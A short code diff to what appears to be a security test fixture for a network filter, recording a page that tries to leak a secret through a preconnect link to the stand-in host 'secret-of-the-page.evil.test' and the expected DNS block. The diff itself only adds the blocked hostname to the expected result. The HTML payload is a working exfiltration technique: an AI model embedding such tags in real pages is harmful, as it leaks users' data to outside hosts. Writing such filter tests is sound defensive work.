@@ -12,6 +12,12 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["W3C Resource Hints", "RFC 6066 section 3"],
     "arrives": [{"what": "tcp", "address": "93.184.216.66", "port": 443}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["dns", "transparent"]}],
+    "stopped": [
+        {
+            "reason": ["not-listed"],
+            "entry": ["dns", "transparent"],
+            "where": {"name": "secret-of-the-page.evil.test"},
+        }
+    ],
     "page": "<link rel=preconnect href='https://secret-of-the-page.evil.test'><h1>News</h1>",
 }
